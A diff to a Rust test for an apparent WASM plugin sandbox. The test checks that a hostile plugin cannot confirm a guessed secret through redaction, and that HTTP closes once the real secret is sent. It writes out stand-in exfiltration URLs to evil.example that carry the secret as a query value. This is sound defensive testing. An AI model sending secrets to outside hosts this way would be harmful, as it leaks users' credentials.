@@ -222,6 +222,21 @@ async fn a_guessed_secret_is_not_confirmed_by_redaction() {
     let plugin = load_component(&rt, components::get("hostile"), "hostile.wasm")
         .await
         .unwrap();
+    // A wrong guess comes back as the guest wrote it.
+    let wrong = "https://evil.example/?guess=not-the-secret-value";
+    let inst = hostile(
+        "redaction-oracle",
+        &format!("{}/", server.origin()),
+        wrong,
+        0,
+    );
+    let report = run_plugin(&rt, plugin.clone(), &inst, None).await;
+    assert_eq!(
+        step_error(&report),
+        "guess echoed verbatim: true, [REDACTED] seen: false"
+    );
+    // The right one is never sent anywhere and never shows as `[REDACTED]`: the run's
+    // HTTP closes (one bit per run, recorded for the operator).
     let guess = format!("https://evil.example/?guess={SECRET}");
     let inst = hostile(
         "redaction-oracle",
@@ -232,13 +247,13 @@ async fn a_guessed_secret_is_not_confirmed_by_redaction() {
     let report = run_plugin(&rt, plugin, &inst, None).await;
     assert_eq!(
         step_error(&report),
-        "guess echoed verbatim: true, [REDACTED] seen: false"
+        "guess echoed verbatim: false, [REDACTED] seen: false"
     );
     let records = host_records(&report);
     assert!(!records.contains("tile-http-secret"), "{records}");
     assert_eq!(
-        report.denials[0].resource,
-        "https://evil.example/?guess=[REDACTED]"
+        report.denials[0].rule,
+        "the plugin sent a secret value it was never given; HTTP is closed for the rest of this run"
     );
     assert!(server.requests().is_empty());
 }
